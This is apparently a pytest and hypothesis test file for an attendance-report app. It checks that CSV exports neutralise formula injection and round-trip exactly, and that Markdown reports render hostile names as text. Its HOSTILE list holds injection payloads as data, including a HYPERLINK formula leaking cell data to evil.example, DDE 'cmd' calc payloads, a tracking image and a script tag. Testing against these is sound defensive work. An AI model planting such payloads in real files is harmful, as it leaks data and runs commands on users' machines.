"""Exports hold hostile names and notes safely: CSV formulas neutralised and exactly undone
on import, Markdown and HTML shown as text in the report."""

import csv
import io
from datetime import date
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from facilitator.core.records.export_csv import grouped_csv, occurrence_csv, parse_occurrence_csv
from facilitator.core.records.export_markdown import markdown_report
from facilitator.core.records.record import Record
from facilitator.core.records.statistics import group, select
from facilitator.core.text_out import BIDI_CONTROLS

TODAY = date(2024, 6, 1)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''+two quotes",
    "'plain quote",
    "![x](http://evil.example/pixel.png)",
    "<script>alert(1)</script>",
    "*Step* _Study_ | `Big Book`",
    "# Tuesday",
    "1. Speaker",
    "Tom &amp; Jerry",
]


def record(name: str, note: str = "", day: int = 1, chips: dict | None = None) -> Record:
    return Record(meeting=name, date=date(2024, 1, day), attendance=5, note=note,
                  chips=chips or {})


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_never_writes_a_live_formula_and_reads_back_the_same_text(text):
    records = [record(text, note=text, chips={text[:40]: 1})]
    exported = occurrence_csv(select(records))
    for row in cells(exported)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    back = parse_occurrence_csv(exported, today=TODAY)
    assert (back[0].meeting, back[0].note, dict(back[0].chips)) == (text, text, {text[:40]: 1})
    assert occurrence_csv(select(back)) == exported


def test_grouped_csv_neutralises_milestone_names_too():
    records = [record("M", chips={"=1+2": 1})]
    exported = grouped_csv(group(select(records), "month"))
    assert all(not cell.startswith(FORMULA_START) for row in cells(exported) for cell in row)


# Any text a name or note may hold: every character but controls, surrogates and bidi
# controls (refused), with the characters CSV, quoting and chip encoding care about mixed in.
allowed = st.characters(exclude_categories=["Cc", "Cs"], exclude_characters=BIDI_CONTROLS)
pieces = st.text(allowed, max_size=12) | st.text(st.sampled_from("'=+-@ \"%;:|,\u00a0"),
                                                  min_size=1, max_size=4)
stored_text = st.lists(pieces, max_size=4).map("".join).map(str.strip)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(stored_text.map(lambda t: t[:80].strip()).filter(bool),
                          stored_text.map(lambda t: t[:1000].strip()),
                          st.dictionaries(stored_text.map(lambda t: t[:40].strip()).filter(bool),
                                          st.integers(0, 9), max_size=2)),
                min_size=1, max_size=4, unique_by=lambda item: item[0].casefold()))
def test_export_import_export_is_byte_identical_for_any_name_and_note(items):
    """Whatever a meeting name or note may hold, the CSV reads back to the same bytes."""
    records = [Record(meeting=name, note=note, chips=chips, date=date(2024, 1, 1),
                      attendance=5) for name, note, chips in items]
    exported = occurrence_csv(select(records))
    back = parse_occurrence_csv(exported, today=TODAY)
    assert sorted(r.to_dict()["meeting"] for r in back) == sorted(r.meeting for r in records)
    assert {r.meeting: r.to_dict() for r in back} == {r.meeting: r.to_dict() for r in records}
    assert occurrence_csv(select(back)) == exported


# --- the Markdown report, rendered ---

RENDER = MarkdownIt("commonmark").enable("table").enable("strikethrough")


class Page(HTMLParser):
    """The rendered report: every element seen, and the text of each table cell."""

    def __init__(self, html: str):
        super().__init__()
        self.elements: list[str] = []
        self.cells: list[str] = []
        self.heading = ""
        self._in_cell = self._in_heading = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append(tag)
        if tag in ("td", "th"):
            self._in_cell = True
            self.cells.append("")
        self._in_heading = self._in_heading or tag == "h1"

    def handle_endtag(self, tag):
        self._in_cell = self._in_cell and tag not in ("td", "th")
        self._in_heading = self._in_heading and tag != "h1"

    def handle_data(self, data):
        if self._in_cell:
            self.cells[-1] += data
        if self._in_heading:
            self.heading += data


def test_the_report_shows_hostile_names_as_text():
    """Each name is one cell of the Meeting column, exactly; no image, link, script or
    emphasis comes from a name."""
    records = [record(name, day=day) for day, name in enumerate(HOSTILE, 1)]
    rows = select(records)
    page = Page(RENDER.render(markdown_report(rows, title=f"Attendance report: {HOSTILE[0]}")))
    assert page.heading == f"Attendance report: {HOSTILE[0]}"
    columns = 9
    body = page.cells[columns:]
    assert len(body) == columns * len(HOSTILE)
    assert body[1::columns] == [r.meeting for r in records]  # records are in date order
    allowed = {"h1", "h2", "p", "br", "strong", "em", "table", "thead", "tbody", "tr", "th", "td",
               "ul", "li"}
    assert set(page.elements) <= allowed, set(page.elements) - allowed
    # the only emphasis is the report's own: "**Period:**", "**Meetings:**" and the totals
    assert page.elements.count("em") == 1  # "_Anonymous counts only…_"


def test_the_report_lists_hostile_milestone_names_as_text():
    records = [record("M", chips={"<img src=x>": 1, "*b*": 2})]
    page = Page(RENDER.render(markdown_report(select(records))))
    assert "img" not in page.elements
    assert page.elements.count("em") == 1
